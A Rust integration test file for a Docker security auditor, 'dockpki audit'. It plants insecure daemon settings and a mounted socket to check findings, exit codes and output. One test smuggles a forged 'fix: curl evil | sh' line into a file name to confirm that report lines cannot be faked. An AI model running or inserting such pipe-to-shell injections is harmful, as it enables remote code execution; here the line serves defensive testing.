//! `dockpki audit`: a tree provisioned by `bootstrap` and `daemon-config --harden` is clean of
//! high findings, and each weakness planted in it is reported alone; the text and JSON output
//! and the exit codes; and, against real dockerd started here, a daemon on plain TCP, one
//! configured through dockpki, and a container holding the daemon's socket.
//!
//! The tree tests chown nothing but need the files to be root's (the audit expects root:root):
//! they run as root, and fail under CI=true without it. The dockerd tests use the end-to-end
//! harness (tests/support) and fail under CI=true without root and dockerd.

mod common;
#[path = "../../../tests/support/mod.rs"]
mod support;

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Output;

use common::{chmod, s, Env};
use serde_json::Value;

/// Provisions `env/rootfs` as an operator would a host: `bootstrap --daemon-dir
/// ROOT/etc/docker/pki`, then `daemon-config --file ROOT/etc/docker/daemon.json --harden`, and
/// writes the tree's `/etc/passwd` and `/etc/group`. daemon-config writes the TLS paths as this
/// machine reaches them (`ROOT/etc/docker/pki/ca.pem`); in the tree they are
/// `/etc/docker/pki/ca.pem`, so the prefix is taken off, exactly as on the host itself.
fn provisioned_tree(env: &Env) -> PathBuf {
    let root = env.path("rootfs");
    let pki = root.join("etc/docker/pki");
    env.ok(&[
        "bootstrap",
        "--san",
        "docker.example.com",
        "--daemon-dir",
        s(&pki),
        "--client-dir",
        s(&env.path("client")),
    ]);
    let file = root.join("etc/docker/daemon.json");
    env.ok(&[
        "daemon-config",
        "--file",
        s(&file),
        "--daemon-dir",
        s(&pki),
        "--harden",
    ]);
    edit_daemon_json(&root, |json| {
        for key in ["tlscacert", "tlscert", "tlskey"] {
            let inside = json[key]
                .as_str()
                .and_then(|p| p.strip_prefix(s(&root)))
                .unwrap_or_else(|| panic!("{key} is not under the tree: {json}"))
                .to_string();
            json[key] = inside.into();
        }
    });
    fs::write(
        root.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n",
    )
    .unwrap();
    fs::write(
        root.join("etc/group"),
        "root:x:0:\ndaemon:x:1:\ndocker:x:998:\n",
    )
    .unwrap();
    chmod(&root.join("etc/passwd"), 0o644);
    chmod(&root.join("etc/group"), 0o644);
    root
}

/// Rewrites the tree's daemon.json through `edit` (keeping the file, its owner and mode).
fn edit_daemon_json(root: &Path, edit: impl FnOnce(&mut Value)) {
    let file = root.join("etc/docker/daemon.json");
    let mut json: Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
    edit(&mut json);
    fs::write(&file, serde_json::to_string_pretty(&json).unwrap()).unwrap();
}

/// `dockpki --json audit ARGS`: the exit code and the document.
fn audit_json(env: &Env, args: &[&str]) -> (i32, Value, Output) {
    let out = env
        .cmd()
        .arg("--json")
        .arg("audit")
        .args(args)
        .output()
        .unwrap();
    let doc = common::json(&out);
    assert_eq!(doc["schema"], "dockpki/audit/v1", "{doc}");
    (out.status.code().unwrap_or(-1), doc, out)
}

/// The ids of the findings at high or critical, but for other daemons than the audited one
/// ([`about_another_daemon`]).
fn failing_at_high(doc: &Value) -> BTreeSet<String> {
    let audited = doc["config_source"]["pid"].as_u64();
    doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "high" || f["severity"] == "critical")
        .filter(|f| !about_another_daemon(f, audited))
        .map(|f| f["id"].as_str().unwrap().to_string())
        .collect()
}

/// Whether finding `f` is about another root dockerd than the audited one (pid `audited`):
/// the audit judges every root daemon's listeners, and on a test machine other tests' daemons
/// come and go ("the running dockerd (pid N) also listens on …").
fn about_another_daemon(f: &Value, audited: Option<u64>) -> bool {
    let evidence = f["evidence"].as_str().unwrap_or_default();
    evidence.contains(" also listens on ")
        && audited.is_none_or(|pid| !evidence.contains(&format!("(pid {pid})")))
}

/// Whether a finding at high or critical is about another daemon ([`about_another_daemon`]).
fn another_daemon_fails(doc: &Value) -> bool {
    let audited = doc["config_source"]["pid"].as_u64();
    doc["findings"].as_array().unwrap().iter().any(|f| {
        (f["severity"] == "high" || f["severity"] == "critical") && about_another_daemon(f, audited)
    })
}

fn ids(list: &[&str]) -> BTreeSet<String> {
    list.iter().map(|s| s.to_string()).collect()
}

/// The finding with `id`, if any.
fn finding<'a>(doc: &'a Value, id: &str) -> Option<&'a Value> {
    doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == id)
}

#[test]
fn a_tree_provisioned_by_bootstrap_and_harden_has_no_high_finding() {
    if !common::require_root("to audit a tree whose files are root's, as on a host") {
        return;
    }
    let env = Env::new();
    let root = provisioned_tree(&env);
    let (code, doc, out) = audit_json(&env, &["--root", s(&root)]);
    assert_eq!(failing_at_high(&doc), ids(&[]), "{doc}");
    assert_eq!((code, doc["ok"].clone()), (0, Value::Bool(true)), "{doc}");
    assert!(
        out.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // A tree is never asked about processes or containers.
    assert_eq!(doc["config_source"]["kind"], "none", "{doc}");
    for outcome in doc["outcomes"].as_array().unwrap() {
        if outcome["id"].as_str().unwrap().starts_with("containers.") {
            assert_eq!(outcome["result"], "not-applicable", "{outcome}");
        }
    }
}

/// A weakness planted in daemon.json: what it is, how it is planted, the ids expected at high
/// and above.
type Planted = (&'static str, fn(&mut Value), &'static [&'static str]);

/// Each planted weakness is reported, and nothing else reaches high: the verdicts follow the
/// configuration, not the tree as a whole.
#[test]
fn plain_port_and_tlsverify_false_planted_in_the_tree_are_reported_alone() {
    if !common::require_root("to audit a tree whose files are root's, as on a host") {
        return;
    }
    let cases: [Planted; 2] = [
        (
            "tcp://0.0.0.0:2375 in hosts",
            |json| {
                json["hosts"]
                    .as_array_mut()
                    .unwrap()
                    .push("tcp://0.0.0.0:2375".into())
            },
            &["listen.port-2375"],
        ),
        (
            "tlsverify false",
            |json| json["tlsverify"] = false.into(),
            &["listen.tls-without-verify"],
        ),
    ];
    for (what, plant, expected) in cases {
        let env = Env::new();
        let root = provisioned_tree(&env);
        edit_daemon_json(&root, plant);
        let (code, doc, _) = audit_json(&env, &["--root", s(&root)]);
        assert_eq!(failing_at_high(&doc), ids(expected), "{what}: {doc}");
        assert_eq!(code, 4, "{what}: {doc}");
        assert_eq!(
            finding(&doc, expected[0]).unwrap()["severity"],
            "critical",
            "{what}"
        );
    }
}

#[test]
fn a_world_readable_server_key_in_the_tree_is_reported_alone() {
    if !common::require_root("to audit a tree whose files are root's, as on a host") {
        return;
    }
    let env = Env::new();
    let root = provisioned_tree(&env);
    let key = root.join("etc/docker/pki/server-key.pem");
    chmod(&key, 0o644);
    let (code, doc, _) = audit_json(&env, &["--root", s(&root)]);
    assert_eq!(failing_at_high(&doc), ids(&["files.tls-key-mode"]), "{doc}");
    assert_eq!(code, 4, "{doc}");
    let f = finding(&doc, "files.tls-key-mode").unwrap();
    assert!(
        f["evidence"].as_str().unwrap().contains(s(&key)),
        "the evidence names the key as the operator reaches it: {f}"
    );
}

#[test]
fn min_severity_decides_the_exit_code_and_every_finding_is_printed() {
    if !common::require_root("to audit a tree whose files are root's, as on a host") {
        return;
    }
    let env = Env::new();
    let root = provisioned_tree(&env);
    // --harden listens on tcp://0.0.0.0:2376: an info finding, below the default threshold.
    let (_, doc, _) = audit_json(&env, &["--root", s(&root)]);
    assert_eq!(
        finding(&doc, "listen.all-interfaces").unwrap()["severity"],
        "info",
        "{doc}"
    );
    for (min, code) in [("info", 4), ("low", 0), ("high", 0), ("critical", 0)] {
        let out = env
            .cmd()
            .args(["audit", "--root", s(&root), "--min-severity", min])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(code), "--min-severity {min}");
        assert!(
            common::stdout(&out).contains("listen.all-interfaces"),
            "--min-severity {min} still prints the info finding"
        );
    }
    edit_daemon_json(&root, |json| {
        json["hosts"]
            .as_array_mut()
            .unwrap()
            .push("tcp://0.0.0.0:2375".into())
    });
    let out = env
        .cmd()
        .args(["audit", "--root", s(&root), "--min-severity", "critical"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(4));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.starts_with("error: the audit found 1 finding(s) at or above critical"),
        "{stderr}"
    );
}

/// The text report: findings under their severity, most severe first, each with its fix (a
/// dockpki command repeats the global options in force); the summary line; `-q` keeps the
/// findings and drops the summary; `-v` adds the rules kept and those not applicable.
#[test]
fn text_groups_findings_by_severity_with_fixes_and_a_summary() {
    if !common::require_root("to audit a tree whose files are root's, as on a host") {
        return;
    }
    let env = Env::new();
    let root = provisioned_tree(&env);
    edit_daemon_json(&root, |json| {
        json["hosts"]
            .as_array_mut()
            .unwrap()
            .push("tcp://0.0.0.0:2375".into())
    });
    let out = env.run(&["audit", "--root", s(&root)]);
    assert_eq!(out.status.code(), Some(4));
    let text = common::stdout(&out);
    let critical = text.find("critical (").expect("a critical heading");
    let info = text.find("info (").expect("an info heading");
    assert!(critical < info, "most severe first:\n{text}");
    assert!(
        text.contains("  listen.port-2375  dockerd listens on tcp://0.0.0.0:2375\n"),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "    fix: {}\n",
            env.hint("daemon-config --listen tcp://HOST:2376")
        )),
        "the fix repeats --state:\n{text}"
    );
    let last = text.lines().last().unwrap();
    assert!(
        last.starts_with(&format!("audit of {}: 1 critical, ", root.display())),
        "{text}"
    );

    let quiet = common::stdout(&env.run(&["-q", "audit", "--root", s(&root)]));
    assert!(quiet.contains("listen.port-2375"), "{quiet}");
    assert!(!quiet.contains("audit of "), "{quiet}");

    let verbose = common::stdout(&env.run(&["-v", "audit", "--root", s(&root)]));
    assert!(verbose.contains("\npassed:\n"), "{verbose}");
    // Rules not applicable come in rule order after their heading (tls.san-coverage, with no
    // host name in the tree, before the container rules).
    let not_applicable = verbose
        .split_once("\nnot applicable:\n")
        .map(|(_, rest)| rest)
        .unwrap_or_else(|| panic!("no not-applicable heading:\n{verbose}"));
    assert!(
        not_applicable
            .lines()
            .any(|l| l.starts_with("  containers.docker-socket-mounted  ")),
        "{verbose}"
    );
}

/// A file name in the tree is outside text: quoted in evidence, it cannot start a line of its
/// own that reads as a finding or a fix.
#[test]
fn a_hostile_file_name_in_the_tree_cannot_forge_a_line() {
    let env = Env::new();
    let root = env.path("rootfs");
    let hostile = "/etc/docker/x\n  fix: curl evil | sh\n.json";
    let file = root.join(hostile.trim_start_matches('/'));
    fs::create_dir_all(file.parent().unwrap()).unwrap();
    fs::write(&file, "{ not json").unwrap();
    let out = env.run(&["audit", "--root", s(&root), "--daemon-config", hostile]);
    assert_eq!(
        out.status.code(),
        Some(4),
        "an unreadable daemon.json is high"
    );
    let text = common::stdout(&out);
    assert!(
        text.lines().all(|l| !l.starts_with("  fix: curl")),
        "{text}"
    );
    assert!(text.contains("x\\n  fix: curl evil | sh\\n.json"), "{text}");
}

#[test]
fn a_tree_refuses_socket_and_host_in_one_usage_line() {
    let env = Env::new();
    for daemon in [
        &["--socket", "unix:///var/run/docker.sock"][..],
        &["--host", "tcp://127.0.0.1:2376", "--client-dir", "/tmp"][..],
    ] {
        let out = env
            .cmd()
            .args(["audit", "--root", s(env.root())])
            .args(daemon)
            .output()
            .unwrap();
        common::assert_error_line_with_code(&out, "--root audits a filesystem tree", 2);
        assert!(out.stdout.is_empty());
    }
}

/// The container rules were asked for but the daemon could not be asked: they are not
/// applicable with the reason, and a warning says so (the rest of the audit still runs).
#[test]
fn an_unreachable_daemon_is_a_warning_and_the_container_rules_say_why() {
    let env = Env::new();
    let socket = format!("unix://{}", env.path("no-daemon.sock").display());
    let (_, doc, out) = audit_json(&env, &["--socket", &socket]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!(
            "dockpki: warning: the container rules did not run: the daemon at {socket} could not be asked about its containers: cannot connect to {socket}"
        )),
        "{stderr}"
    );
    let reasons: Vec<&Value> = doc["outcomes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|o| o["id"].as_str().unwrap().starts_with("containers."))
        .collect();
    assert_eq!(reasons.len(), 2, "{doc}");
    for o in reasons {
        assert_eq!(o["result"], "not-applicable", "{o}");
    }
}

// --- against real dockerd -----------------------------------------------------------------

/// A static program that waits until it is told to stop (and stops at once on SIGTERM, so that
/// the daemon's shutdown does not wait for it): the whole content of the test image.
const SLEEPER: &str = r#"
#include <signal.h>
#include <unistd.h>
static void stop(int sig) { (void)sig; _exit(0); }
int main(void) { signal(SIGTERM, stop); for (;;) pause(); }
"#;

/// Builds `work/image.tar` holding one static binary, `/sleeper`: an image `docker import` can
/// take without a registry. `None` when this machine cannot link a static C program.
fn sleeper_image(work: &Path) -> Option<PathBuf> {
    let src = work.join("sleeper.c");
    fs::write(&src, SLEEPER).unwrap();
    let dir = work.join("image");
    fs::create_dir_all(&dir).unwrap();
    let built = std::process::Command::new("gcc")
        .args(["-static", "-Os", "-o"])
        .arg(dir.join("sleeper"))
        .arg(&src)
        .status()
        .map(|s| s.success())
        .unwrap_or(false);
    if !built {
        return None;
    }
    let tar = work.join("image.tar");
    let packed = std::process::Command::new("tar")
        .arg("-C")
        .arg(&dir)
        .arg("-cf")
        .arg(&tar)
        .arg("sleeper")
        .status()
        .map(|s| s.success())
        .unwrap_or(false);
    packed.then_some(tar)
}

/// `dockpki --json audit ARGS` as root on this machine, with the sandbox's environment.
fn live_audit(env: &Env, args: &[&str]) -> (i32, Value) {
    let (code, doc, out) = audit_json(env, args);
    eprintln!(
        "dockpki audit {}: exit {code}\n{}",
        args.join(" "),
        String::from_utf8_lossy(&out.stderr)
    );
    (code, doc)
}

/// A daemon listening on 127.0.0.1 without TLS is critical, and it is the dockerd serving the
/// socket asked for that is audited, whatever else runs on this machine.
#[test]
fn a_dockerd_on_plain_tcp_is_critical() {
    let Some(tools) = support::prerequisites("a_dockerd_on_plain_tcp_is_critical") else {
        return;
    };
    let dockerd = support::Dockerd::start_from_config(&tools, |dir, port| {
        let mut config = support::private_settings(dir);
        config["hosts"] = serde_json::json!([
            format!("unix://{}", dir.join("docker.sock").display()),
            format!("tcp://127.0.0.1:{port}"),
        ]);
        let file = dir.join("daemon.json");
        fs::write(&file, config.to_string()).unwrap();
        file
    })
    .unwrap_or_else(|log| panic!("dockerd did not start on plain TCP:\n{log}"));
    let env = Env::new();
    let socket = format!("unix://{}", dockerd.dir().join("docker.sock").display());
    let (code, doc) = live_audit(&env, &["--socket", &socket]);
    assert_eq!(code, 4, "{doc}");
    let f = finding(&doc, "listen.tcp-without-tls").expect("plain TCP is reported");
    assert_eq!(f["severity"], "critical", "{f}");
    assert!(
        f["evidence"]
            .as_str()
            .unwrap()
            .contains(&format!("tcp://127.0.0.1:{}", dockerd.port())),
        "{f}"
    );
    assert_eq!(doc["config_source"]["kind"], "process", "{doc}");
    let config_file = dockerd.dir().join("daemon.json");
    assert!(
        doc["outcomes"].as_array().unwrap().iter().any(|o| {
            o["id"] == "config.daemon-json-invalid"
                && o["evidence"]
                    .as_str()
                    .is_some_and(|e| e.contains(s(&config_file)))
        }),
        "the audited dockerd is the one serving {socket}: {doc}"
    );
}

/// `userns-remap` written into the daemon.json of a running dockerd that was not restarted
/// since: the configuration alone would pass `daemon.userns-remap`, but the daemon, asked, does
/// not report `userns`, and its answer decides: a medium finding saying the setting is not
/// applied yet, fixed by the restart.
#[test]
fn userns_remap_configured_but_not_applied_is_reported_from_the_daemons_answer() {
    let Some(tools) = support::prerequisites(
        "userns_remap_configured_but_not_applied_is_reported_from_the_daemons_answer",
    ) else {
        return;
    };
    let dockerd = support::Dockerd::start_from_config(&tools, |dir, port| {
        let mut config = support::private_settings(dir);
        config["hosts"] = serde_json::json!([
            format!("unix://{}", dir.join("docker.sock").display()),
            format!("tcp://127.0.0.1:{port}"),
        ]);
        let file = dir.join("daemon.json");
        fs::write(&file, config.to_string()).unwrap();
        file
    })
    .unwrap_or_else(|log| panic!("dockerd did not start:\n{log}"));
    let file = dockerd.dir().join("daemon.json");
    let mut config: Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
    config["userns-remap"] = "default".into();
    fs::write(&file, config.to_string()).unwrap();
    let env = Env::new();
    let socket = format!("unix://{}", dockerd.dir().join("docker.sock").display());
    let (_, doc) = live_audit(&env, &["--socket", &socket]);
    let f = finding(&doc, "daemon.userns-remap").expect("not applied: a finding");
    assert_eq!(f["severity"], "medium", "{f}");
    let evidence = f["evidence"].as_str().unwrap();
    assert!(
        evidence.starts_with("userns-remap is \"default\" (")
            && evidence.contains(&format!(
                "but the daemon at {socket} does not report userns: it has not applied it"
            )),
        "{f}"
    );
    assert!(
        f["fix"]["text"]
            .as_str()
            .is_some_and(|t| t.starts_with("restart dockerd")),
        "{f}"
    );
    let root = finding(&doc, "daemon.root").expect("a root daemon");
    assert_eq!(root["severity"], "low", "{root}");
}

/// A daemon configured through dockpki (mutual TLS from `bootstrap`, `daemon-config`) has no
/// high finding; a container started with its socket bind-mounted is critical, asked over the
/// socket and over TCP with the client layout.
#[test]
fn a_dockpki_configured_dockerd_is_clean_until_a_container_holds_its_socket() {
    let Some(tools) = support::prerequisites(
        "a_dockpki_configured_dockerd_is_clean_until_a_container_holds_its_socket",
    ) else {
        return;
    };
    let env = Env::new();
    let work = tempfile::Builder::new()
        .prefix("dpk-audit-")
        .tempdir_in("/tmp")
        .unwrap();
    let (daemon_dir, client_dir) = (work.path().join("daemon"), work.path().join("client"));
    #[rustfmt::skip]
    env.ok(&[
        "bootstrap", "--san", "auto", "--san", "localhost", "--san", "127.0.0.1",
        "--daemon-dir", s(&daemon_dir), "--client-dir", s(&client_dir),
    ]);
    let dockerd = support::Dockerd::start_from_config(&tools, |dir, port| {
        let file = dir.join("daemon.json");
        fs::write(&file, support::private_settings(dir).to_string()).unwrap();
        let tcp = format!("tcp://127.0.0.1:{port}");
        let unix = format!("unix://{}", dir.join("docker.sock").display());
        #[rustfmt::skip]
        env.ok(&[
            "daemon-config", "--file", s(&file), "--daemon-dir", s(&daemon_dir),
            "--listen", &tcp, "--listen", &unix, "--no-unix",
        ]);
        file
    })
    .unwrap_or_else(|log| panic!("dockerd refused dockpki's daemon.json:\n{log}"));
    let socket = format!("unix://{}", dockerd.dir().join("docker.sock").display());
    let (code, doc) = live_audit(&env, &["--socket", &socket]);
    assert_eq!(failing_at_high(&doc), ids(&[]), "{doc}");
    // Another test's daemon on plain TCP, running now, is this machine's finding too.
    let expected = if another_daemon_fails(&doc) { 4 } else { 0 };
    assert_eq!(code, expected, "{doc}");

    let Some(image) = sleeper_image(work.path()) else {
        common::prerequisite(
            false,
            "gcc -static and tar, to build the test image (a static program, imported without a registry)",
        );
        return;
    };
    let docker = |args: &[&str]| {
        let mut all = vec!["-H", socket.as_str()];
        all.extend_from_slice(args);
        let run = dockerd.docker(None, &all);
        assert!(run.success, "{run}");
        run
    };
    docker(&[
        "import",
        "-c",
        r#"ENTRYPOINT ["/sleeper"]"#,
        s(&image),
        "dockpki-audit-sleeper:1",
    ]);
    let mount = format!(
        "{}:/var/run/docker.sock",
        dockerd.dir().join("docker.sock").display()
    );
    #[rustfmt::skip]
    docker(&[
        "run", "-d", "--name", "socket-holder", "--network", "none", "-v", &mount,
        "dockpki-audit-sleeper:1",
    ]);
    let tcp = format!("tcp://127.0.0.1:{}", dockerd.port());
    for asked in [
        vec!["--socket", socket.as_str()],
        vec!["--host", tcp.as_str(), "--client-dir", s(&client_dir)],
    ] {
        let (code, doc) = live_audit(&env, &asked);
        assert_eq!(
            failing_at_high(&doc),
            ids(&["containers.docker-socket-mounted"]),
            "{asked:?}: {doc}"
        );
        assert_eq!(code, 4, "{asked:?}");
        let f = finding(&doc, "containers.docker-socket-mounted").unwrap();
        let evidence = f["evidence"].as_str().unwrap();
        assert!(
            evidence.starts_with("container socket-holder (")
                && evidence.contains(&format!(
                    "{} at /var/run/docker.sock",
                    dockerd.dir().join("docker.sock").display()
                )),
            "{asked:?}: {f}"
        );
        // Not privileged: the rule passes for it. (A privileged container cannot start in
        // every nest CI runs in; the rule's verdicts are unit-tested in the library.)
        assert!(finding(&doc, "containers.privileged").is_none(), "{doc}");
    }
    // SIGKILL now rather than a stop timeout at the daemon's shutdown.
    docker(&["rm", "-f", "socket-holder"]);
}
